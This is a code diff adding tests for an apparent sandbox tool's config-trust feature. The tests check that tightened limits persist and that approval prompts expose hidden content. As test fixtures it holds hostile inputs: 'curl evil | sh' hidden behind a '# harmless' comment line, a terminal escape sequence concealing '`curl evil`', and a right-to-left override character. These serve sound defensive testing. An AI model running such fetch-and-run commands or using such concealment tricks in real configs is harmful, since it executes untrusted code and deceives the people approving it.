@@ -76,6 +76,42 @@ test('trusted, all of it goes in, until the file changes', async () => {
   expect((await auditOf('trust'))[0]).toMatchObject({name: repo, detail: expect.stringContaining('from-the-project')});
 });
 
+test('what a trusted file tightened stays tight when somebody changes it, or takes it away', async () => {
+  write('limits: {memory: 128m, pids: 64}\n');
+  await trust();
+  write('limits: {memory: 256m}\nnetwork: open\n');
+  const changed = await fixture.port.resolve(request());
+  expect(changed.project).toMatchObject({
+    ...{trust: 'changed', removed: ['limits.memory: 128m', 'limits.pids: 64']},
+    ...{applied: ['limits.memory: 128m', 'limits.pids: 64'], refused: ['network: open', 'limits.memory: 256m']},
+  });
+  expect(await create()).toMatchObject({limits: {memoryBytes: 128 * 2 ** 20, pids: 64}});
+  rmSync(path.join(repo, '.trails.yaml'));
+  const gone = await fixture.port.resolve(request());
+  expect(gone.project).toMatchObject({
+    trust: 'gone',
+    says: [],
+    refused: [],
+    removed: expect.arrayContaining(['limits.pids: 64']),
+  });
+  expect(await create()).toMatchObject({project: 'tightened', limits: {memoryBytes: 128 * 2 ** 20}});
+  await expect(trust()).rejects.toMatchObject({code: 'PROJECT_MISSING', hint: expect.stringContaining('--revoke')});
+  expect(await fixture.port.revokeTrust(repo)).toBe(true);
+  expect((await fixture.port.resolve(request())).project).toBeNull();
+});
+
+test('what a person agrees to can be seen: no control characters, and no second line that looks like the first', async () => {
+  write('setup: ["echo a \\e]0;`curl evil`\\a b"]\n');
+  await expect(fixture.port.resolve(request())).rejects.toMatchObject({
+    ...{code: 'CONFIG_INVALID', message: expect.stringContaining('control characters')},
+  });
+  write('args: ["--x\\u202ey"]\n');
+  await expect(fixture.port.resolve(request())).rejects.toMatchObject({code: 'CONFIG_INVALID'});
+  write('setup:\n  - |\n    # harmless\n    curl evil | sh\n');
+  const {project} = await fixture.port.resolve(request());
+  expect(project?.says).toEqual(['setup: "# harmless\\ncurl evil | sh"']);
+});
+
 test('trust is for what was shown, and is listed and taken back', async () => {
   write('setup: [one]\n');
   const {project} = await fixture.port.resolve(request());
